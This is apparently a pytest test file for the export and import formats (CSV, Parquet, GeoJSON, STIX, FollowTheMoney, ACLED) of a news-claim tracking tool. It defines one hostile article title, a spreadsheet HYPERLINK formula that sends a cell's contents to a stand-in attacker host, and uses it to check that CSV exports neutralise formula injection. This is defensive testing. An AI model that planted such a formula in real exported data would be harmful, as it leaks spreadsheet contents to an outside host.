"""Exports and imports: each format written by its own library and checked by it (stix2-validator,
geojson, pyarrow, followthemoney), the JSONL round trip, ACLED rows and their import."""

from __future__ import annotations

import csv
import json
import subprocess
from pathlib import Path

import geojson
import pyarrow.parquet as pq
import pytest
from conftest import INPUTS, ROOT, SEED_DIR, voa_records, write_jsonl
from followthemoney import model
from followthemoney.statement import read_statements
from followthemoney.statement.serialize import JSON
from stix2validator import ValidationOptions, validate_file

from sitroom import Sitroom
from sitroom.export.acled import COLUMNS
from sitroom.export.tables import CLAIM_SCHEMA

HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
TRAIN = ("8011076",)  # a VOA story with casualty figures


@pytest.fixture(scope="module")
def room(tmp_path_factory) -> Sitroom:
    """A store with the seed article, the train-attack page and a story with a hostile title."""
    tmp = tmp_path_factory.mktemp("export")
    recs = voa_records(*TRAIN)
    for r in recs:
        r["title"] = HOSTILE_TITLE
    stories = write_jsonl(tmp / "stories.jsonl", recs)
    room = Sitroom(db=str(tmp / "src.db"))
    room.ingest([str(SEED_DIR), str(INPUTS / "voa_train_attack.html"), str(stories)])
    room.grade_source("Voice of America", "B")
    return room


def _cli(db: str, *args: str) -> subprocess.CompletedProcess:
    return subprocess.run(
        [str(ROOT / ".venv" / "bin" / "sitroom"), "--db", db, *args],
        capture_output=True,
        text=True,
        timeout=300,
    )


def test_jsonl_round_trip_gives_the_same_claims_and_picture(room, tmp_path):
    out = tmp_path / "export.jsonl"
    counts = room.export("jsonl", str(out))["counts"]
    assert counts["claim"] == len(room.claims(include_restatements=True)) > 20
    copy = Sitroom(db=str(tmp_path / "copy.db"))
    report = copy.import_file(str(out), "jsonl")
    assert report["errors"] == []
    assert copy.claims(include_restatements=True) == room.claims(include_restatements=True)
    assert copy.documents() == room.documents()
    assert copy.estimates() == room.estimates()
    assert copy.events() == room.events()
    again = copy.import_file(str(out), "jsonl")
    assert again["already_present"] == counts["document"]
    assert copy.stats()["claims"] == room.stats()["claims"]


def test_jsonl_claims_carry_provenance(room, tmp_path):
    out = tmp_path / "e.jsonl"
    room.export("jsonl", str(out), kind="casualties")
    claims = [json.loads(line) for line in out.read_text().splitlines()]
    claims = [c for c in claims if c["type"] == "claim"]
    assert claims and {c["kind"] for c in claims} == {"casualties"}
    voa = [c for c in claims if c["provenance"]["outlet"] == "Voice of America"]
    assert voa and all(c["provenance"]["outlet_grade"] == "B" for c in voa)
    for c in claims:
        doc = room.show(c["provenance"]["document"])
        assert c["quote"] in doc["text"]
        assert c["provenance"]["origin"]


def test_csv_claims_are_formula_safe_and_complete(room, tmp_path):
    out = tmp_path / "claims.csv"
    room.export("csv", str(out))
    rows = list(csv.DictReader(out.open(encoding="utf-8")))
    assert list(rows[0].keys()) == CLAIM_SCHEMA.names
    titles = {r["provenance.title"] for r in rows}
    assert HOSTILE_TITLE not in titles
    assert "'" + HOSTILE_TITLE in titles
    assert not any(v.startswith(("=", "+", "@")) for r in rows for v in r.values() if v)
    assert len(rows) == len(room.claims(include_restatements=True))


def test_parquet_tables_have_the_declared_schema(room, tmp_path):
    counts = room.export("parquet", str(tmp_path / "pq"))["counts"]
    table = pq.read_table(tmp_path / "pq" / "claims.parquet")
    assert table.schema.equals(CLAIM_SCHEMA)
    assert table.num_rows == counts["claims"]
    by_id = {r["id"]: r for r in table.to_pylist()}
    for view in room.claims(kind="casualties"):
        row = by_id[view["id"]]
        assert row["quote"] == view["quote"]
        assert row["quantity.low"] == (view["quantity"] or {}).get("low")
    docs = pq.read_table(tmp_path / "pq" / "documents.parquet")
    assert "text" not in docs.schema.names and docs.num_rows == counts["documents"]


def test_geojson_is_valid_rfc7946_with_lon_lat(room, tmp_path):
    out = tmp_path / "x.geojson"
    counts = room.export("geojson", str(out))["counts"]
    data = geojson.loads(out.read_text())
    assert data.is_valid, data.errors()
    assert "crs" not in data
    assert counts["claim"] > 0 and counts["event"] > 0
    places = {p["id"]: p for p in room.store.table_rows("places")}
    claims = {c["id"]: c for c in room.claims(include_restatements=True)}
    for feat in data["features"]:
        lon, lat = feat["geometry"]["coordinates"]
        assert -180 <= lon <= 180 and -90 <= lat <= 90
        if feat["properties"]["type"] == "claim":
            place = places[claims[feat["id"]]["place"]["id"]]
            assert (lon, lat) == (round(place["lon"], 6), round(place["lat"], 6))
            assert feat["properties"]["place_precision"] == place["level"]


def test_stix_bundle_validates_and_carries_grades(room, tmp_path):
    out = tmp_path / "bundle.json"
    room.export("stix", str(out))
    result = validate_file(str(out), ValidationOptions(version="2.1"))
    assert result.is_valid, [str(e) for o in result.object_results for e in o.errors][:5]
    custom = [str(w) for o in result.object_results for w in o.warnings if "{401}" in str(w)]
    assert custom == []
    objs = json.loads(out.read_text())["objects"]
    notes = [o for o in objs if o["type"] == "note"]
    quotes = {c["quote"] for c in room.claims(include_restatements=True)}
    assert notes and all(n["content"] in quotes for n in notes)
    voa = [o for o in objs if o["type"] == "identity" and o["name"] == "Voice of America"]
    assert voa and voa[0]["x_sitroom_admiralty_reliability"] == "B"
    ids = {o["id"] for o in objs}
    assert all(ref in ids for o in objs for ref in o.get("object_refs", []))
    graded = [n for n in notes if "confidence" in n]
    assert all(n["confidence"] in (90, 70, 50, 30, 10) for n in graded)


def test_ftm_statements_have_provenance_and_valid_schemata(room, tmp_path):
    out = tmp_path / "ftm.json"
    room.export("ftm", str(out))
    with open(out, "rb") as fh:
        stmts = list(read_statements(fh, JSON))
    assert stmts
    claim_ids = {c["id"] for c in room.claims(include_restatements=True)}
    doc_ids = {d["id"] for d in room.documents()}
    for s in stmts:
        schema = model.get(s.schema)
        assert schema is not None and schema.get(s.prop) is not None, (s.schema, s.prop)
        assert s.origin in claim_ids | doc_ids | {"sitroom"}
    summaries = {s.value for s in stmts if s.prop == "summary"}
    assert summaries <= {c["quote"] for c in room.claims(include_restatements=True)}
    proofs = {s.value for s in stmts if s.prop == "proof"}
    articles = {s.entity_id for s in stmts if s.schema == "Article"}
    assert proofs <= articles


def test_acled_rows_follow_the_schema_and_the_lowest_figure_rule(room, tmp_path):
    out = tmp_path / "acled.csv"
    counts = room.export("acled", str(out))["counts"]
    rows = list(csv.DictReader(out.open(encoding="utf-8")))
    assert list(rows[0].keys()) == COLUMNS
    assert all(r["event_date"] for r in rows) and len(rows) == counts["events"]
    incidents = room.measures(scope="incident", limit=None)
    assert len({(m["incident"], m["theatre"]) for m in incidents}) == len(rows) + counts["undated"]
    by_claim = {}
    for m in incidents:
        for o in room.measure(m["id"])["observations"]:
            by_claim.setdefault(o["claim_id"], set()).add(m["id"])
    assert any(int(r["fatalities"]) > 0 for r in rows)
    for row in rows:
        # ACLED's rule from the stored measures through the read API: per killed measure the
        # lowest of the origins' current figures; the event takes the largest of those
        mids = set().union(*(by_claim[c] for c in row["sitroom_claims"].split()))
        lows = []
        for mid in mids:
            m = room.measure(mid)
            if m["casualty"] == "killed" and m["status"] == "occurred" and m["current"]:
                lows.append(min(o["low"] for o in m["current"]))
        assert int(row["fatalities"]) == int(max(lows, default=0)), row["sitroom_event_id"]
        assert row["event_type"] in (
            "Battles",
            "Explosions/Remote violence",
            "Violence against civilians",
            "Strategic developments",
        )
        assert row["latitude"] == "" or -90 <= float(row["latitude"]) <= 90
        assert 1 <= int(row["sitroom_credibility"]) <= 6


def test_acled_import_is_its_own_graded_origin(room, tmp_path):
    out = tmp_path / "acled.csv"
    room.export("acled", str(out))
    rows = [r for r in csv.DictReader(out.open(encoding="utf-8")) if int(r["fatalities"]) > 0]
    target = Sitroom(db=str(tmp_path / "acled.db"))
    report = target.import_file(str(out), "acled")
    assert report["errors"] == []
    deaths = target.claims(kind="casualties")
    assert sorted(c["quantity"]["low"] for c in deaths) == sorted(
        float(r["fatalities"]) for r in rows
    )
    assert all(c["source"]["name"] == "ACLED" for c in deaths)
    for c in deaths:
        assert str(int(c["quantity"]["low"])) in c["quote"]
    target.grade_source("ACLED", "B")
    assert {s["reliability"] for s in target.sources() if s["name"] == "ACLED"} == {"B"}
    assert target.import_file(str(out), "acled")["already_present"] > 0


def test_acled_import_reports_bad_rows_and_keeps_the_rest(tmp_path):
    path = tmp_path / "bad.csv"
    path.write_text(
        "event_id_cnty,event_date,event_type,sub_event_type,actor1,actor2,country,location,"
        "latitude,longitude,fatalities,notes\n"
        "X1,2025-02-03,Battles,Armed clash,Army,Rebels,Mali,Gao,16.27,-0.04,12,clash near Gao\n"
        ",2025-02-04,Battles,Armed clash,Army,Rebels,Mali,Gao,16.27,-0.04,3,no id\n"
        "X3,2025-02-05,Battles,Armed clash,Army,Rebels,Mali,Gao,16.27,-0.04,many,bad number\n",
        encoding="utf-8",
    )
    room = Sitroom(db=str(tmp_path / "a.db"))
    report = room.import_file(str(path), "acled")
    assert report["imported"]["document"] == 1
    assert len(report["errors"]) == 2 and all("bad.csv:" in e for e in report["errors"])
    (claim,) = room.claims(kind="casualties")
    assert claim["quantity"]["low"] == 12 and claim["place"]["country"] == "ML"


def test_cli_export_errors_are_one_line(room, tmp_path):
    db = room.settings.db
    res = _cli(db, "export", "--format", "parquet", "-o", "-")
    assert res.returncode == 3 and res.stderr.count("\n") == 1 and "directory" in res.stderr
    res = _cli(db, "export", "--format", "jsonl", "-o", str(tmp_path / "nope" / "x.jsonl"))
    assert res.returncode == 3 and "does not exist" in res.stderr
    res = _cli(db, "import", str(tmp_path / "missing.jsonl"), "--format", "jsonl")
    assert res.returncode == 3 and "no such file" in res.stderr
    res = _cli(db, "export", "--format", "jsonl", "--since", "2025-13-45")
    assert res.returncode == 2 and "Traceback" not in res.stderr


def test_cli_export_to_stdout_streams_jsonl(room):
    res = _cli(room.settings.db, "export", "--format", "jsonl", "--kind", "deployment")
    assert res.returncode == 0, res.stderr
    lines = [json.loads(x) for x in res.stdout.splitlines()]
    assert lines[0]["type"] == "sitroom-export"
    assert {x["kind"] for x in lines if x["type"] == "claim"} == {"deployment"}
    assert not Path("-").exists()


def test_event_formats_read_stored_incidents_without_building_the_picture(
    room, tmp_path, monkeypatch
):
    """Events come from the stored measures (streamed), never from an in-memory picture."""
    from sitroom.export.events import stored_events

    def no_picture(*args, **kwargs):
        raise AssertionError("the export built the picture in memory")

    monkeypatch.setattr(Sitroom, "picture", no_picture)
    events = list(stored_events(room.store))
    labels = {(m["incident"], m["theatre"]) for m in room.measures(scope="incident", limit=None)}
    assert len(events) == len(labels) and all(ev.claims for ev in events)
    for fmt in ("acled", "geojson", "stix", "ftm"):
        room.export(fmt, str(tmp_path / f"out.{fmt}"))
    feats = json.loads((tmp_path / "out.geojson").read_text())["features"]
    placed = [ev for ev in events if ev.place and ev.place.get("lat") is not None]
    assert {f["id"] for f in feats if f["properties"]["type"] == "event"} == {
        ev.id for ev in placed
    }
